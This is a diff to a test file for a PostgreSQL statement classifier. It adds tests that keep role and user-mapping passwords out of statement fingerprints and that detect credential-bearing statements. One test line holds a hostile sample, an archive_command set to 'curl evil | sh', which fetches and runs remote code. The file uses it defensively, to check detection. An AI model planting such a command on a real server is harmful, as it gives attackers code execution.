@@ -10,6 +10,7 @@ import {
   classifySql,
   fingerprint,
   initClassifier,
+  namesCredential,
 } from '../../protocols/postgres/classify.js';
 import { DANGEROUS_FUNCTIONS, isDangerousFunction } from '../../protocols/postgres/dangerous-functions.js';
 import { UNKNOWN_SETTING, type SqlStatementFacts } from '../../src/policy/types.js';
@@ -363,9 +364,37 @@ t.test('fingerprint: constants, whitespace, case and comments do not matter; ide
   t.not(fp("SET search_path = app"), fp("SET search_path = evil"), 'SET');
   t.not(fp("ALTER SYSTEM SET archive_command = 'true'"), fp("ALTER SYSTEM SET archive_command = 'curl evil | sh'"), 'ALTER SYSTEM');
   t.not(fp("ALTER ROLE bob SET role = 'a'"), fp("ALTER ROLE bob SET role = 'b'"), 'ALTER ROLE ... SET');
-  t.not(fp("ALTER ROLE bob PASSWORD 'x'"), fp("ALTER ROLE bob PASSWORD 'y'"), 'role options');
+  t.not(fp("ALTER ROLE bob CONNECTION LIMIT 1"), fp("ALTER ROLE bob CONNECTION LIMIT 2"), 'role options');
+  // A password is replaced by a marker: the API shows fingerprints, and an unkeyed hash of it could be brute-forced.
+  t.equal(fp("ALTER ROLE bob PASSWORD 'x'"), fp("ALTER ROLE bob PASSWORD 'correct horse'"), 'the password is not in the fingerprint');
+  t.equal(fp("CREATE ROLE bob LOGIN ENCRYPTED PASSWORD 'x'"), fp("CREATE ROLE bob LOGIN PASSWORD 'y'"));
+  t.not(fp("ALTER ROLE bob PASSWORD 'x'"), fp('ALTER ROLE bob PASSWORD NULL'), 'PASSWORD NULL removes the password: another statement');
+  t.not(fp("ALTER ROLE bob PASSWORD 'x'"), fp("ALTER ROLE alice PASSWORD 'x'"), 'the role still counts');
+  t.not(fp("ALTER ROLE bob PASSWORD 'x'"), fp("ALTER ROLE bob PASSWORD 'x' VALID UNTIL 'infinity'"), 'and the other options');
+  t.equal(
+    fp("CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'a', password 'x')"),
+    fp("CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'a', password 'y')"),
+    "a user mapping's password neither",
+  );
   // a multi-statement member fingerprints like the same statement sent alone
   t.equal(fingerprint(classifySql('SELECT 1; SELECT * FROM users WHERE id = 7')[1]!), a);
+});
+
+t.test('namesCredential: the statements whose text may hold a password', async (t) => {
+  const names = (sql: string) => namesCredential(one(sql).kinds);
+  for (const sql of [
+    "CREATE ROLE r PASSWORD 'x'",
+    "ALTER USER u WITH ENCRYPTED PASSWORD 'x'",
+    "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'a', password 'x')",
+    "ALTER USER MAPPING FOR app SERVER remote OPTIONS (SET password 'x')",
+    "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'h')",
+    "ALTER SERVER remote OPTIONS (ADD password 'x')",
+  ]) {
+    t.ok(names(sql), sql);
+  }
+  for (const sql of ['SELECT password FROM users', "UPDATE users SET password = 'x'", 'DROP USER MAPPING FOR app SERVER remote', 'CREATE TABLE t (password text)']) {
+    t.notOk(names(sql), sql);
+  }
 });
 
 t.test('cache: repeated text is a hit, results are frozen and shared', async (t) => {
